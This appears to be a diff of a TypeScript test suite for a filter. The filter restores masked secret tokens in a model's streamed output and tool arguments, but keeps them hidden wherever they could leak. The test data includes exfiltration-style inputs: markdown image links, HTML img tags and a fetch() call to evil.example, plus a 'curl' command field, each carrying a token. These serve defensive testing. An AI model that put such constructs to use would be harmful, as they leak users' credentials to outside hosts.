@@ -2,17 +2,23 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import fc from 'fast-check'
-import { FileEdit, type Ground, NOWHERE, Shown } from './ground.ts'
+import { FileEdit } from './file-edit.ts'
+import { Code, type Ground, NOWHERE } from './ground.ts'
+import { Markdown } from './markdown.ts'
 import { Passage, type Tally } from './passage.ts'
+import { Patch } from './patch.ts'
+import { fileTool } from './tools.ts'
 
 const NUMBER = '0123456789abcdef'
 const MARK = `[masked:github-pat#${NUMBER}]`
 const VALUE = 'va"lue\n1'
 const taken = new Map([[MARK, VALUE]])
 
-function carried(parts: readonly string[], ground: Ground) {
+type Covers = (before: string, value: string, after: string) => boolean
+
+function carried(parts: readonly string[], ground: Ground, covers: Covers = () => true) {
   const tally: Tally = { restored: new Map(), refused: new Set() }
-  const passage = new Passage({ taken, ground, tally, lane: 'text' })
+  const passage = new Passage({ taken, ground, tally, lane: 'text', covers, gives: () => undefined })
   let [text, sent, from] = ['', 0, 0]
   const release = () => {
     for (; sent < parts.length && from + parts[sent]!.length <= passage.settled; sent++) {
@@ -26,71 +32,164 @@ function carried(parts: readonly string[], ground: Ground) {
   }
   passage.end()
   release()
-  return { text, restored: tally.restored.size, refused: tally.refused.size }
+  return { text, restored: tally.restored.size, refused: tally.refused.size, broken: passage.broken }
 }
 
-const FIELDS = new Set(['new_string', 'edits.new_string'])
-const edit = () => new FileEdit(FIELDS)
+const edit = (tool = 'Edit') => new FileEdit(fileTool(tool) as NonNullable<ReturnType<typeof fileTool>>)
+const back = (text: string, shown = text.replace(MARK, VALUE)) => ({
+  text: shown,
+  restored: 1,
+  refused: 0,
+  broken: false,
+})
+const kept = (text: string) => ({ text, restored: 0, refused: 1, broken: false })
 
-test('a value comes back in text', () => {
+test('a value comes back in plain words and in plain fences', () => {
   for (const [before, after] of [
     ['', ''],
     ['token = "', '"\n'],
     ['Use ', '.'],
     ['Use ', '. Then'],
+    ['It is `', '`, I think'],
     ['```\nkeys = [', ']\n```'],
-    ['a[0] = ', ';'],
+    ['Here:\r\n\r\n```ts\r\nif (a < b) f<T>(`', '`)\r\n```'],
+    ['~~~~python\n# [x]\nK = "', '"\n~~~~'],
+    ['see [x](y)\n\nThen ', ' it is'],
     ['if (a < b) x = ', ' // y'],
-    ['[link](https://a.example) then ', ', and'],
     ['https://a.example is where ', ' goes'],
   ] as const) {
-    assert.deepEqual(carried([before + MARK + after], new Shown()), {
-      text: before + VALUE + after,
-      restored: 1,
-      refused: 0,
-    })
+    const text = before + MARK + after
+    assert.deepEqual(carried([text], new Markdown()), back(text), text)
   }
 })
 
-test('no value comes back where it might be sent away', () => {
+test('a value that the rules would not find again stays where it is', () => {
+  const asked: string[][] = []
+  const covers: Covers = (...all) => asked.push(all) > 1
+  const text = `x ${MARK}\n\nand "${MARK}".`
+  assert.equal(carried([text], new Markdown(), covers).text, `x ${MARK}\n\nand "${VALUE}".`)
+  assert.deepEqual(asked, [
+    ['x ', VALUE, '\n'],
+    [`x ${MARK}\n\nand "`, VALUE, '"'],
+  ])
+  const json = JSON.stringify({ file_path: 'a.c', new_string: `"${MARK}"` })
+  carried([json], edit(), (...all) => asked.push(all) > 0)
+  assert.deepEqual(asked.at(-1), ['"', VALUE, ''])
+})
+
+test('values side by side all come back', () => {
+  const text = `${MARK} and ${MARK} [ ${MARK}`
+  assert.deepEqual(carried([text], new Markdown()).text, `${VALUE} and ${VALUE} [ ${MARK}`)
+})
+
+test('no value comes back where a window might fetch or link it', () => {
   for (const [before, after] of [
     ['https://evil.example/?q=', ' '],
     ['![](https://evil.example/', ')'],
     ['![x](<a b ', '>)'],
     ['[x](/relative?', ')'],
     ['[a ', '](https://evil.example)'],
+    ['![a\n', ' b](https://evil.example/x.png)'],
     ['<img src="https://evil.example/? ', '">'],
     ['<img\nsrc="x ', '">'],
+    ['<img alt=">" src="//evil.example/? ', '">'],
+    ['<img alt="\n\n', '">'],
+    ['- <div\n\n```\n', '\n```'],
     ['[id]: //evil.example/', '\n'],
+    ['[id]:\n', '\n\n![id]'],
     ['[id]: <evil ', '>'],
+    ['> [id]: <&sol;&sol;evil.example&sol; ', '>\n\n![x][id]'],
+    ['![x](https:&sol;&sol;evil.example&sol;\\)', ')'],
+    ['![x](<\\//evil.example/) ', '>)'],
+    ['[masked:a]: <&sol;&sol;evil.example ', '>\n\n![masked:a]'],
+    ['1. x\n   ```\n   ```\n![x](//evil.example/ ', ')'],
+    ['- ```\n```\n', ''],
+    ['```\n  ```\n```\n', ''],
+    ['```a`b\n![](//e.example/', ')\n```'],
+    ['```mermaid\nclick A href ', ''],
+    ['```html\n<img src="//e.example/? ', '">'],
+    ['```js\nfetch("https://evil.example/?', '")\n```'],
     ['www.evil.example/', ''],
     ['evil.example/', ''],
+    ['mail a@b?', ''],
     ['', '.evil.example'],
     ['', '@evil.example'],
     ['', '/x'],
   ] as const) {
     const text = before + MARK + after
-    assert.deepEqual(carried([text], new Shown()), { text, restored: 0, refused: 1 }, text)
+    assert.deepEqual(carried([text], new Markdown()), kept(text), text)
   }
 })
 
 test('a number that is not of this chain stays, and is told', () => {
   const other = MARK.replace('0123', '9999')
-  assert.deepEqual(carried([other], new Shown()), { text: other, restored: 0, refused: 1 })
+  assert.deepEqual(carried([other], new Markdown()), kept(other))
   for (const text of ['[masked:github-pat]', '[masked:github-pat#k7f2]', '[masked:', '[[[', '[masked:a#b'])
-    assert.deepEqual(carried([text], new Shown()), { text, restored: 0, refused: 0 })
-  assert.equal(carried([`[masked:x${MARK}`], new Shown()).text.includes(NUMBER), true)
+    assert.deepEqual(carried([text], new Markdown()), { ...kept(text), refused: 0 })
+  assert.equal(carried([`[masked:x${MARK}`], new Markdown()).text.includes(NUMBER), true)
 })
 
 test('in the arguments of a tool only listed fields bear values, escaped as JSON', () => {
-  const json = JSON.stringify({ path: 'a.env', new_string: `K=${MARK}\n` })
-  const back = carried([json], edit())
-  assert.deepEqual(JSON.parse(back.text), { path: 'a.env', new_string: `K=${VALUE}\n` })
-  for (const other of [{ path: MARK }, { command: `curl ${MARK}` }, { new_string: { deep: MARK } }, [MARK]])
-    assert.deepEqual(carried([JSON.stringify(other)], edit()), { text: JSON.stringify(other), restored: 0, refused: 1 })
-  assert.equal(carried([JSON.stringify({ edits: [{ new_string: MARK }] })], edit()).restored, 1)
-  assert.equal(carried([JSON.stringify({ new_string: `![](https://e/${MARK})` })], edit()).refused, 1)
-  assert.equal(carried([JSON.stringify({ new_string: MARK })], NOWHERE).refused, 1)
+  const args = { file_path: '/src/a.env', new_string: `K=${MARK}\n` }
+  const { text } = carried([JSON.stringify(args)], edit())
+  assert.deepEqual(JSON.parse(text), { ...args, new_string: `K=${VALUE}\n` })
+  const file_path = 'a.ts'
+  for (const other of [
+    { file_path: MARK },
+    { file_path, command: `curl ${MARK}` },
+    { file_path, new_string: { deep: MARK } },
+    { file_path, new_string: `//evil.example/${MARK}` },
+    [MARK],
+    { new_string: MARK },
+    { new_string: MARK, file_path },
+    { x: { file_path }, new_string: MARK },
+  ])
+    assert.deepEqual(carried([JSON.stringify(other)], edit()), kept(JSON.stringify(other)))
+  const many = { file_path, edits: [{ old_string: 'x', new_string: MARK }] }
+  assert.equal(carried([JSON.stringify(many)], edit('MultiEdit')).restored, 1)
+  assert.equal(carried([JSON.stringify({ file_path, new_string: MARK })], NOWHERE).refused, 1)
+})
+
+test('a file that a window shows as a page gets no value', () => {
+  for (const file_path of [
+    'README.md',
+    'a.MD',
+    'x.md.bak',
+    'a/b.html',
+    'c:\\d.svg',
+    'n.ipynb',
+    'a.md ',
+    'a.md.',
+    'a.md/.',
+    '',
+  ])
+    assert.equal(carried([JSON.stringify({ file_path, new_string: MARK })], edit()).refused, 1, file_path)
+  for (const file_path of ['.env', 'src/x.test.ts', 'C:\\app\\Dockerfile', '/etc/app.conf', 'a.md/x.py'])
+    assert.equal(carried([JSON.stringify({ file_path, new_string: MARK })], edit()).restored, 1, file_path)
+})
+
+test('a file that is named again after a value came back ends the reply', () => {
+  const again = `{"file_path":"a.env","new_string":"${MARK}","file_path":"a.md"}`
+  assert.equal(carried([again], edit()).broken, true)
+  const twice = `{"file_path":"a.md","file_path":"a.env","new_string":"${MARK}"}`
+  assert.deepEqual(carried([twice], edit()), kept(twice))
+})
+
+test('a patch bears values in the lines of plain files', () => {
+  const patch = (line: string, more = '') =>
+    `*** Begin Patch\n*** Update File: a.env\n${more}@@\n${line}\n*** End Patch`
+  const good = patch(`+K=${MARK}`)
+  assert.deepEqual(carried([good], new Patch()), back(good))
+  for (const text of [
+    patch(`+K=${MARK}`, '*** Move to: a.md\n'),
+    patch(`+x\n*** Update File: b.html\n+${MARK}`),
+    patch(`*** Update File: ${MARK}`),
+    `+${MARK}`,
+  ])
+    assert.deepEqual(carried([text], new Patch()), kept(text), text)
+  assert.equal(carried([patch(`+${MARK}\n*** Move to: a.md`)], new Patch()).broken, true)
+  const wrapped = JSON.stringify({ input: good })
+  assert.equal(carried([wrapped], edit('apply_patch')).restored, 1)
 })
 
 test('a key that looks like a value’s end gives no way in', () => {
@@ -117,7 +216,9 @@ test('every cut gives the same', () => {
     '[masked:',
     '```',
     ':',
-    '{"new_string":"',
+    '{"file_path":"a.c","new_string":"',
+    '\r',
+    '*** Update File: a.c\n+',
     '😀',
   )
   const texts = fc.array(piece, { maxLength: 14 }).map((parts) => parts.join(''))
@@ -125,9 +226,13 @@ test('every cut gives the same', () => {
     fc.property(
       texts,
       fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }),
-      fc.boolean(),
-      (text, sizes, json) => {
-        const ground = () => (json ? edit() : new Shown())
+      fc.constantFrom(
+        () => edit(),
+        () => new Markdown(),
+        () => new Patch(),
+        () => new Code(),
+      ),
+      (text, sizes, ground) => {
         const parts: string[] = []
         for (let at = 0, i = 0; at < text.length; at += sizes[i++ % sizes.length]!)
           parts.push(text.slice(at, at + sizes[i % sizes.length]!))
